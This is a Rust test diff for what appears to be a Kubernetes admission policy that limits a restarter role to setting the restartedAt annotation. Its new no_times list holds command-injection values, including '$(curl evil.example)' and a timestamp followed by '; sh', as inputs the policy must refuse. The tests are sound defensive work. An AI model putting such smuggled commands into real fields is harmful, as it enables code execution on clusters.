@@ -78,7 +78,22 @@ fn patches() -> Vec<(&'static str, Value)> {
 }
 
 fn restart() -> Value {
-    json!({"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "2026-01-01T00:00:00Z"}}}}})
+    restart_at("2026-01-01T00:00:00+01:00")
+}
+
+fn restart_at(value: &str) -> Value {
+    json!({"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": value}}}}})
+}
+
+/// What an annotation that everybody reads could carry, were it not a time.
+fn no_times() -> Vec<(&'static str, String)> {
+    vec![
+        ("a command in the restart", "$(curl evil.example)".into()),
+        ("a time and more", "2026-01-01T00:00:00Z; sh".into()),
+        ("a line below the time", "2026-01-01T00:00:00Z\nx".into()),
+        ("a long time", format!("2026-01-01T00:00:00.{}Z", "0".repeat(30))),
+        ("nothing", String::new()),
+    ]
 }
 
 #[test]
@@ -106,6 +121,10 @@ fn a_restarter_changes_nothing_but_the_restart() {
         if kind != "DaemonSet" {
             all.push(("replicas", json!({"spec": {"replicas": 9}})));
         }
+        if kind != "DaemonSet" {
+            let counter = json!({"metadata": {"annotations": {"deprecated.daemonset.template.generation": "7"}}});
+            all.push(("a counter of another kind", counter));
+        }
         if kind == "Deployment" {
             all.push(("paused", json!({"spec": {"paused": true}})));
             all.push((
@@ -129,6 +148,13 @@ fn a_restarter_changes_nothing_but_the_restart() {
             refused(
                 &format!("{what} with restart"),
                 &send_as(rig, &restarter, "PATCH", &path, &patch),
+                "kglass-restart",
+            );
+        }
+        for (what, value) in no_times() {
+            refused(
+                what,
+                &send_as(rig, &restarter, "PATCH", &path, &restart_at(&value)),
                 "kglass-restart",
             );
         }
